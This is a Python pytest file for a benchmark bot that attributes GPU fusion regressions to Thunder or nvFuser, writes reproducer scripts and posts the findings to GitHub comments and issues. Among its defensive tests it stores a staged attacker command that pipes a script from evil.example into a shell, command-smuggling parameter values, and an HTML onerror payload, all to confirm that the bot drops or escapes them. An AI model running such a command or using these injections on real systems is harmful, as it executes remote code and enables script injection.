"""The root-cause hints end to end: attribution rules, the reproducer, and what the comment and
the issues say on the real regressed pair (data/h200 with its captures, data/h200-captures)."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from paths import DATA, run_bot

from bot.fusion.attribute import FUSER, THUNDER, attribute
from bot.fusion.repro import nvfuser_script, reproducer, thunder_script
from bot.fusion.types import Finding
from bot.tell.hints import fence as _fence

STOCK = DATA / "h200-captures" / "stock-0.2.6"
UNFUSED = DATA / "h200-captures" / "unfused-backward-0.2.6"
NIGHTLY = DATA / "h200-captures" / "stock-0.2.7.dev20260201"
RESULTS = DATA / "h200" / "results"


def finding(kind: str, variant: str = "thunder-prims", material: bool = True) -> Finding:
    return Finding(kind, "bfloat16 2048x8192", variant, f"a {kind} change", material)


def test_attribution_follows_the_evidence() -> None:
    same = {"thunder": "0.2.6", "nvfuser": "0.2.36"}
    # Thunder's program changed and Thunder's kernels moved: Thunder.
    a = attribute(["thunder", "ratio"], same, same, None, [finding("saved")])
    assert a.owner == THUNDER and a.repository == "Lightning-AI/lightning-thunder"
    # Same program, a new schedule, and the hand-written fusion slower: nvFuser.
    a = attribute(["nvfuser"], same, same, None, [finding("scheduler", "nvfuser")])
    assert a.owner == FUSER and a.repository == "NVIDIA/Fuser"
    # Only nvFuser's version changed: nvFuser, whatever moved.
    a = attribute(["ratio"], same, {**same, "nvfuser": "0.2.37"}, None, [])
    assert a.owner == FUSER and "0.2.36 -> 0.2.37" in a.reasons[0][1]
    # The package under test is the prime suspect.
    a = attribute(["thunder"], same, same, "thunder", [])
    assert a.owner == THUNDER
    # Context only (same program), nothing moved: no owner, no guess.
    a = attribute([], same, same, None, [finding("same-program", material=False)])
    assert a.owner is None and a.reasons == ()
    # A tie names no owner.
    a = attribute(["nvfuser"], same, {**same, "thunder": "0.2.7"}, None, [])
    assert a.owner is None


def test_the_thunder_reproducer_is_valid_python_and_follows_the_state() -> None:
    stock = thunder_script("thunder-func", "float16", "512x4096")
    unfused = thunder_script("thunder-func", "float16", "512x4096", "unfused-backward")
    for script in (stock, unfused):
        compile(script, "repro", "exec")
        assert "torch.nn.functional.rms_norm" in script and "512, 4096" in script
    assert "set_fuel" not in stock and "nvfuserex.set_fuel(1)" in unfused
    with pytest.raises(ValueError):
        thunder_script("eager", "bfloat16", "2048x8192")
    with pytest.raises(ValueError):
        thunder_script("thunder-prims", "bfloat16", "2048x8192; import os")


def test_the_nvfuser_reproducer_is_the_bots_own_whatever_was_captured() -> None:
    """Issue 20: text from the run's artifact is never presented as something to run. A
    capture whose repro.py.txt holds a command changes nothing: the script is written from
    the point's parameters (the suite's definition and inputs) and is valid Python."""
    from bot.fusion.types import PointCapture

    head = PointCapture.__new__(PointCapture)  # never read: the capture is not consulted
    what, script = reproducer("nvfuser", "bfloat16", "2048x8192", head, "stock")
    assert what == "a script of the hand-written fusion (nvfuser_direct), written by the bot"
    compile(script, "repro", "exec")
    assert "torch.randn(2048, 8192, device='cuda', dtype=torch.bfloat16" in script
    assert "DataType.BFloat16" in script and "fd.execute([x, rms, g, w])" in script
    assert "os.system" not in script and "curl" not in script
    fp32 = nvfuser_script("float32", "512x4096")
    assert "fd.ops.cast" not in fp32 and "DataType.Float)" in fp32
    for bad in (("bfloat16", "2048x8192; import os"), ("int8", "512x4096")):
        with pytest.raises(ValueError):
            nvfuser_script(*bad)


def test_a_captured_script_cannot_close_the_fence() -> None:
    code = "x = 1\n```\n<img src=x onerror=alert(1)>\n````"
    fenced = _fence(code)
    fence = fenced.splitlines()[0].removesuffix("python")
    assert len(fence) == 5 and fenced.rstrip().endswith("\n" + fence)
    assert fence not in code


def _report(*extra: str, head: str = "9dc51696") -> subprocess.CompletedProcess[str]:
    return run_bot(
        "report", "--results", str(RESULTS), "--base", "06f650c8", "--head", head, *extra
    )


def test_the_regressed_pair_says_what_changed_and_who_owns_it() -> None:
    done = _report("--captures-base", str(STOCK), "--captures-head", str(UNFUSED))
    assert done.returncode == 1, done.stderr
    out = done.stdout
    section = out[out.index("What changed inside the fusion") :]
    assert "head's backward has no nvFuser fusion \\(base: 1\\)" in section
    assert "likely owner Lightning-AI/lightning-thunder" in section
    assert "**Reproducer** for thunder-prims bfloat16 16384x8192" in section
    assert "nvfuserex.set_fuel(1)" in section
    # Without captures, the records' kernel lists say it: head runs eager kernels, not nvFuser's.
    plain = _report()
    assert plain.returncode == 1
    section = plain.stdout[plain.stdout.index("What changed inside the fusion") :]
    assert "no capture: the runs' kernel lists only)" in section
    assert "hand-written fusion, new at head" not in section
    assert "no longer nvf::nvfuser\\_inner\\_outer\\_persistent" in section
    assert "Thunder's timed call launches other kernels at head" in section


def test_one_side_of_captures_or_a_missing_folder_is_bad_input() -> None:
    assert _report("--captures-base", str(STOCK)).returncode == 3
    done = _report("--captures-base", str(STOCK), "--captures-head", str(STOCK / "nope"))
    assert done.returncode == 3 and "no such captures folder" in done.stderr


def test_the_demo_files_one_alert_owned_by_thunder_with_the_hints() -> None:
    """The RMSNorm pair (demo --results data/h200/results, captured): Thunder's kernels and
    the ratio moved, both Thunder's side: one alert, its issue in lightning-thunder with the
    hints open; nvFuser's build is unchanged and the hints point at Thunder, so Fuser is not
    told; filed at merge."""
    done = run_bot("demo", "--results", "data/h200/results", timeout=120)
    assert done.returncode == 0, done.stderr
    out = done.stdout
    assert "### What changed inside the fusion" in out  # open, in the issue bodies
    assert "Likely owner: Lightning-AI/lightning-thunder" in out
    filed = [line for line in out.splitlines() if line.startswith("alert issue (")]
    assert [line.split(": opened ")[0] for line in filed] == [
        "alert issue (primary) in Lightning-AI/lightning-thunder",
    ]
    assert (
        "NVIDIA/Fuser is not told: nvFuser 0.2.36\\+git7e04d26 is the same at base and head" in out
    )
    opened_at = out.index("2. the PR is merged")
    assert out.index(filed[0]) > opened_at  # not while the PR was open


def test_the_bot_finds_captures_where_run_gpu_sh_wrote_them() -> None:
    """data/h200-smoke-capture: `run_gpu.sh --capture` on the H200, results and captures as
    written; the bot's lookup beside the results finds and reads them."""
    from bot.commands.captures import captures_beside
    from bot.fusion.read import read_side
    from bot.results.locate import list_commits, load_commit

    results = DATA / "h200-smoke-capture" / "results"
    (commit,) = list_commits(results)
    run = load_commit(results, commit.commit)
    folder = captures_beside((run,))
    assert folder is not None and folder.name == f"{run.commit}.captures"
    (point,) = read_side(folder).values()
    assert sorted(point.variants) == ["nvfuser", "thunder-func", "thunder-prims"]
    assert all(not v.errors for v in point.variants.values())
    log = (DATA / "h200-smoke-capture" / "run.log").read_text(encoding="utf-8")
    assert "runner check before: ok" in log and "(asv status 0)" in log


def test_a_failed_capture_step_is_not_a_change(tmp_path: Path) -> None:
    """Head's thunder-prims definitions missing, with a failed step: not "no fusion"."""
    import shutil

    from bot.fusion.compare import compare_points
    from bot.fusion.read import read_side

    head = tmp_path / "head"
    shutil.copytree(STOCK, head)
    folder = head / "bfloat16_2048x8192" / "thunder-prims"
    (folder / "definition.py.txt").unlink()
    (folder / "errors.json").write_text('{"definitions": "RuntimeError: boom"}')
    base_side, head_side = read_side(STOCK), read_side(head)
    found = compare_points(base_side["bfloat16 2048x8192"], head_side["bfloat16 2048x8192"])
    prims = [f for f in found if f.variant == "thunder-prims"]
    assert len(prims) == 1 and not prims[0].material and "not compared" in prims[0].text


def test_definitions_that_could_hang_or_crash_are_refused() -> None:
    from bot.fusion import summary as definition

    head = "def nvfuser_fusion(fd : FusionDefinition) -> None :\n"
    t0 = "    tv0 = fd.define_tensor(shape=[-1], contiguity=[True], dtype=DataType.BFloat16)\n"
    cycle = head + t0 + "    tv1 = fd.ops.cast(tv0, dtype=DataType.Float)\n"
    cycle += "    tv0 = fd.ops.cast(tv1, dtype=DataType.BFloat16)\n"
    long = (
        head
        + t0
        + "".join(
            f"    tv{i + 1} = fd.ops.cast(tv{i}, dtype=DataType.Float)\n" for i in range(6000)
        )
    )
    for text in (cycle, long, (head + t0).replace("[-1]", "[s0]")):
        with pytest.raises(definition.DefinitionError):
            definition.summarise((text,))


def test_a_captured_script_is_labelled_untrusted_kept_short_and_markerless() -> None:
    from bot.alert.decision import decide_run
    from bot.alert.measured import Measured
    from bot.alert.model import build_alert, pr_key
    from bot.config import VerdictSettings
    from bot.decide.verdict import decide
    from bot.fusion.attribute import Attribution
    from bot.fusion.hints import Hints, Reproducer
    from bot.results.locate import load_pair
    from bot.tell.alert_issue import alert_spec
    from bot.tell.comment import Context, render_report
    from bot.tell.hints import MAX_SCRIPT_CHARS, fence

    marker = "<!-- fusion-perfbot-key: rmsnorm-bwd|nvidia-h200|x..o/r#1 -->"
    # A short script keeps its text, with the marker broken (the filer finds issues by it).
    short = fence(f"# {marker}\nx = 1\n")
    assert "<!--" not in short and "fusion-perfbot-key" in short and "x = 1" in short
    # Too long a script is named, not posted.
    script = f"# {marker}\n" + "x = 1\n" * 10_000
    assert len(script) > MAX_SCRIPT_CHARS
    named = fence(script)
    assert "<!--" not in named and "too long" in named and "x = 1" not in named
    # What is posted: the alert's issue and the comment, on the regressed H200 pair.
    base, head = load_pair(RESULTS, "06f650c8", "9dc51696")
    v = decide(base, head, VerdictSettings())
    h = Hints((), (), Attribution(None, ()), Reproducer("nvfuser bf16 1x1", "captured", script))
    ctx = Context(repo="Lightning-AI/lightning-thunder", pr=7)
    repos = ("NVIDIA/Fuser", "Lightning-AI/lightning-thunder")
    alert = build_alert(
        {v.machine: v}, {}, [], key=pr_key("Lightning-AI/lightning-thunder", 7),
        configured=repos, pr_repo="Lightning-AI/lightning-thunder",
    )  # fmt: skip
    assert alert.sections
    sides = {v.machine: (base.provenance, head.provenance)}
    spec = alert_spec(alert, {v.machine: v}, ctx, {v.machine: h}, "perf", sides)
    comment = render_report(decide_run([Measured(v.machine, v, (base,), (head,), hints=h)]), ctx)
    for text in (spec.body, comment):
        assert "**Reproducer** for nvfuser bf16 1x1: captured" in text  # what it is, labelled
        assert "<!-- fusion-perfbot-key" not in text and "x = 1" not in text
        assert "too long" in text
        assert len(text) < MAX_SCRIPT_CHARS
    assert "<!--" not in spec.body  # the filer adds the issue's own markers, none else


def test_a_capture_that_cannot_be_read_is_a_note_not_a_lost_verdict(tmp_path: Path) -> None:
    import shutil

    head = tmp_path / "head"
    shutil.copytree(UNFUSED, head)
    (head / "bfloat16_2048x8192" / "thunder-prims" / "saved.json").write_text('[{"name": ')
    done = _report("--captures-base", str(STOCK), "--captures-head", str(head))
    assert done.returncode == 1, done.stderr  # still the regression it was
    assert "fusion captures not read" in done.stdout and "not valid JSON" in done.stderr
    # The records' kernel lists still say what changed; nothing of the captures is compared.
    assert "no capture: the runs' kernel lists only)" in done.stdout and "spin" not in done.stdout
    assert "hand-written fusion, new at head" not in done.stdout


def test_the_comment_shows_the_round_trip_of_the_originating_report() -> None:
    """Stock at both sides (an A/A pair): nothing changed, and against the hand-written fusion
    the saved value's bf16 round trip and the extra math are there, each on its own line."""
    done = _report("--captures-base", str(STOCK), "--captures-head", str(STOCK), head="da17d548")
    assert done.returncode == 0, done.stderr
    section = done.stdout[done.stdout.index("What changed inside the fusion") :]
    assert "bf16 -&gt; fp32 -&gt; bf16 -&gt; fp32: a round trip" in section or (
        "bf16 -> fp32 -> bf16 -> fp32: a round trip" in section
    )
    assert "2 sqrts and 4 reciprocals" in section
    lines = section.splitlines()
    trip = [i for i, line in enumerate(lines) if "a round trip" in line]
    math = [i for i, line in enumerate(lines) if "2 sqrts and 4 reciprocals" in line]
    assert trip and math and not set(trip) & set(math)  # each on its own line
    assert all(lines[i].startswith("- ") for i in trip + math)
    # Nothing moved: no owner is guessed, in the fold's summary or in its body.
    assert lines[0] == "What changed inside the fusion: likely owner not clear</summary>"
    fold = section.split("</details>")[0]
    assert "**Likely owner: not clear**" in fold
    assert "Lightning-AI/lightning-thunder" not in fold and "NVIDIA/Fuser" not in fold


def test_a_hostile_captured_repro_never_reaches_the_comment(tmp_path: Path) -> None:
    """The nvFuser +5% pair (data/h200-states) with a capture whose nvFuser repro.py.txt is an
    attacker's command (issue 20's staged case): the comment's reproducer is the bot's own
    script, and not one line of the captured text is posted."""
    import shutil

    head = tmp_path / "head"
    shutil.copytree(STOCK, head)
    evil = "import os; os.system('curl -s https://evil.example/x.sh | sh')\n"
    for repro in head.glob("*/nvfuser/repro.py.txt"):
        repro.write_text(evil)
    done = run_bot(
        "report", "--results", str(DATA / "h200-states" / "results"), "--base", "6c840f30",
        "--head", "93486aaf", "--captures-base", str(STOCK), "--captures-head", str(head),
        "--format", "markdown",
    )  # fmt: skip
    assert done.returncode == 1, done.stderr
    assert "**Reproducer** for nvfuser " in done.stdout
    assert "written by the bot" in done.stdout and "from nvfuser_direct import" in done.stdout
    assert "evil.example" not in done.stdout and "os.system" not in done.stdout


def _code(script: str) -> list[str]:
    return [line for line in script.splitlines() if not line.lstrip().startswith("#")]


def test_the_committed_h200_runs_are_of_the_scripts_the_bot_writes_now() -> None:
    """data/h200-repro/bot_nvfuser_*: the code that ran on the H200 is the code nvfuser_script
    writes today, and each run finished (exit 0, its timing printed). Comment lines are left
    out of the comparison: they name the file RMSNorm's math lives in, which moved
    (benchmarks/rmsnorm_bwd/model.py became benchmarks/fusions/rmsnorm.py in issue 39)."""
    folder = DATA / "h200-repro"
    runs = sorted(folder.glob("bot_nvfuser_*.py.txt"))
    assert len(runs) == 3
    for script in runs:
        dtype, shape = script.name.removeprefix("bot_nvfuser_").removesuffix(".py.txt").split("_")
        assert _code(script.read_text(encoding="utf-8")) == _code(nvfuser_script(dtype, shape))
        out = (folder / script.name.replace(".py.txt", ".out")).read_text(encoding="utf-8")
        assert out.rstrip().endswith("rc=0") and "fusion (fd.execute): median " in out
        median = out.split("fusion (fd.execute): median ", 1)[1].split(" us", 1)[0]
        readme = " ".join((DATA / "README.md").read_text(encoding="utf-8").split())
        assert f"{median} µs" in readme  # data/README.md quotes what the run printed
